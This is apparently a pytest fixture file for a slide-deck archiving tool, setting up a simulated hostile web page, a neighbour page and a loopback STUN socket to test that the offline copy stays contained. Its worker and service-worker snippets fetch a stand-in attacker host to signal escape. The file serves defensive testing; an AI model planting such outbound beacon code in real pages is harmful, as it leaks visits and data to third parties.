"""A hostile page and its neighbour, captured and rewritten once a session as any deck is."""

from __future__ import annotations

import socket
from collections.abc import Iterator
from dataclasses import dataclass
from pathlib import Path

import pytest

from deckarchive import pipeline, urls
from deckarchive.server import Server
from examples.web.hosts import Answer, Request
from examples.web.serve import LocalWeb

NEIGHBOUR = "https://neighbour.example/"
EVIL = "https://evil.example/"
LEAVING = (
    "leave",
    "leave-by-refresh",
    "leave-for-a-file",
    "leave-for-the-deck",
    "land-on-the-deck",
    "land-on-the-neighbour",
    "leave-for-a-script",
)
SLIDES = {"neighbour": 1, "all": 2, "click": 3, **{name: n + 4 for n, name in enumerate(LEAVING)}}
"""Which slide shows what: the page's fragments in order, after a title and the neighbour."""

_WORKER = (
    'fetch("https://attacker.example/worker", {mode: "no-cors"})'
    '.then(() => postMessage("SENT"), () => postMessage("refused"))'
)
_SERVICE = (
    'self.addEventListener("install", (event) => event.waitUntil('
    'fetch("https://attacker.example/service", {mode: "no-cors"}).catch(() => 0)))'
)


@dataclass(frozen=True)
class Hostile:
    """The offline folder, and the loopback UDP socket that a peer connection would reach."""

    folder: Path
    stun: socket.socket


def _web(page: str) -> LocalWeb:
    neighbour = (
        "<!doctype html><title>Neighbour</title><h1>A quiet neighbour</h1><p>It has secrets."
    )
    files = {
        ("neighbour.example", "/"): ("text/html", neighbour),
        ("evil.example", "/"): ("text/html; charset=utf-8", page),
        ("evil.example", "/worker.js"): ("text/javascript", _WORKER),
        ("evil.example", "/service.js"): ("text/javascript", _SERVICE),
    }

    def answer(request: Request) -> Answer:
        kind, body = files.get((request.host, request.path), ("", ""))
        return Answer(body.encode(), {"Content-Type": kind}) if kind else Answer(status=404)

    def speaks(scheme: str, host: str) -> bool:
        return host in {"neighbour.example", "evil.example"}

    return LocalWeb(answer=answer, speaks=speaks)


@pytest.fixture(scope="session")
def hostile(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Hostile]:
    home = tmp_path_factory.mktemp("hostile")
    shown = [NEIGHBOUR, *(f"{EVIL}#{view}" for view in ("all", "click", *LEAVING))]
    slides = [
        f'<!-- .slide: data-background-iframe="{url}" data-background-interactive -->'
        for url in shown
    ]
    (home / "talk.md").write_text("# A talk\n\n---\n\n" + "\n\n---\n\n".join([*slides, "# End"]))
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as stun:
        stun.bind(("127.0.0.1", 0))
        stun.setblocking(False)
        page = (Path(__file__).parent / "hostile.html").read_text("utf-8")
        page = page.replace("NEIGHBOUR", urls.target_id(NEIGHBOUR, "background-iframe"))
        page = page.replace("STUN", str(stun.getsockname()[1]))
        with _web(page) as web:
            options = {"proxy": web.proxy, "insecure": True}
            pipeline.run_capture(home / "talk.md", home / "archive", options, lambda _: None)
        pipeline.run_rewrite(home / "talk.md", home / "archive", home / "offline")
        yield Hostile(home / "offline", stun)


@pytest.fixture
def served(hostile: Hostile) -> Iterator[Server]:
    with Server(hostile.folder) as server:
        yield server
